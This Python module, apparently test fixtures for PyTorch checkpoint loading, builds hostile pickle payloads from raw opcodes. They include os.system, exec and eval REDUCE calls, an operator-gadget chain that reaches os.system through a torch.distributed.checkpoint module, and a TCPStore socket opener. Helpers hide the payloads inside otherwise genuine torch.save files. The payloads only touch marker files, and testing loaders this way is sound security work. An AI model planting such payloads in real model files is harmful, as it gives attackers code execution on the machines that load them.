"""Hostile pickles, built here from raw opcodes, and the checkpoint files that carry them.

Each payload pushes one object when unpickled by plain `pickle` and, on the way, runs
something with a visible effect (a marker file created): `reduce` payloads call a global
(`posix.system`, `builtins.exec`, `builtins.eval`); the protocol-4 `chain` walks from a
torch.distributed.checkpoint module through dotted names (`operator.attrgetter` found "under"
`torch.distributed.checkpoint.filesystem`, which imports operator) to `os.system`; `tcpstore`
names a class a DCP module merely imports (it would open a listening socket; never run here).

`Raw(bytes)` placed anywhere in an object is written verbatim into its pickle by `save`
(torch.save's zip format, or with `legacy` its pre-1.6 format), so a payload sits exactly
where a genuine file holds `args`, `rng_state`, a tensor, or the whole file.
"""
from __future__ import annotations

import pickle
import struct
import types

import torch

DCP_FILESYSTEM = "torch.distributed.checkpoint.filesystem"
DCP_IMPORTS_TCPSTORE = "torch.distributed.checkpoint._async_process_executor"


class Raw:
    """Opcodes that push one object, written as they are in place of this object."""

    def __init__(self, data: bytes):
        self.data = data


def s(text: str) -> bytes:
    """BINUNICODE: push a str."""
    b = text.encode()
    return b"X" + struct.pack("<I", len(b)) + b


def global_(module: str, name: str) -> bytes:
    """GLOBAL (protocol 0+): push module.name as pickle resolves it."""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def stack_global(module: str, name: str) -> bytes:
    """STACK_GLOBAL (protocol 4): the name may be dotted, and pickle walks it attribute by attribute."""
    return s(module) + s(name) + b"\x93"


def call(func: bytes, *args: bytes) -> bytes:
    """func(*args) (REDUCE)."""
    return func + b"(" + b"".join(args) + b"t" + b"R"


def reduce_payload(kind: str, marker: str) -> bytes:
    """A REDUCE that creates `marker` through `kind`: posix.system, os.system, builtins.exec, builtins.eval."""
    if kind in ("posix.system", "os.system"):
        return call(global_(*kind.split(".")), s(f"touch {marker}"))
    if kind == "builtins.exec":
        return call(global_("builtins", "exec"), s(f"open({marker!r}, 'w').close()"))
    if kind == "builtins.eval":
        return call(global_("builtins", "eval"), s(f"open({marker!r}, 'w').close()"))
    raise ValueError(kind)


def chain_payload(marker: str) -> bytes:
    """methodcaller("system", cmd)(itemgetter("os")(attrgetter("__init__.__globals__")(FileSystemReader))),
    every global a dotted name under a DCP module."""
    globals_ = call(call(stack_global(DCP_FILESYSTEM, "operator.attrgetter"), s("__init__.__globals__")),
                    stack_global(DCP_FILESYSTEM, "FileSystemReader"))
    os_module = call(call(stack_global(DCP_FILESYSTEM, "operator.itemgetter"), s("os")), globals_)
    return call(call(stack_global(DCP_FILESYSTEM, "operator.methodcaller"), s("system"), s(f"touch {marker}")),
                os_module)


def tcpstore_payload() -> bytes:
    """TCPStore("127.0.0.1", 0, 1, True): a server socket, by a name a DCP module imports (no dots)."""
    return call(stack_global(DCP_IMPORTS_TCPSTORE, "TCPStore"), s("127.0.0.1"), b"K\x00", b"K\x01", b"\x88")


PAYLOADS = ("posix.system", "os.system", "builtins.exec", "builtins.eval", "chain", "tcpstore")


def payload(kind: str, marker: str) -> bytes:
    if kind == "chain":
        return chain_payload(marker)
    if kind == "tcpstore":
        return tcpstore_payload()
    return reduce_payload(kind, marker)


def standalone(raw: bytes) -> bytes:
    """A whole pickle of one payload (protocol 4: pickle resolves dotted names from there on)."""
    return b"\x80\x04" + raw + b"."


def in_front_of(raw: bytes, obj) -> bytes:
    """A pickle that runs `raw`, drops its result (POP) and then builds `obj` as usual: a file
    that reads as a genuine `obj` once the payload has run."""
    return b"\x80\x04" + raw + b"0" + pickle.dumps(obj, protocol=2)[2:]


class _RawPickler(pickle._Pickler):  # the Python pickler: its save() can write raw bytes
    def save(self, obj, save_persistent_id=True):
        if isinstance(obj, Raw):
            self.write(obj.data)
            return
        super().save(obj, save_persistent_id)


_raw_pickle = types.ModuleType("raw_pickle")
_raw_pickle.Pickler = _RawPickler
_raw_pickle.dump = pickle.dump


def save(obj, path: str, *, legacy: bool = False) -> None:
    """torch.save(obj, path) with each Raw in it written verbatim; `legacy`: torch's pre-1.6 format.
    Pickle protocol 4, under which plain pickle resolves the chain's dotted names."""
    torch.save(obj, path, pickle_module=_raw_pickle, pickle_protocol=4, _use_new_zipfile_serialization=not legacy)


def runs_under_plain_pickle(data: bytes) -> None:
    """Unpickles `data` with plain pickle (what a naive reader does): to show a payload is live."""
    pickle.loads(data)
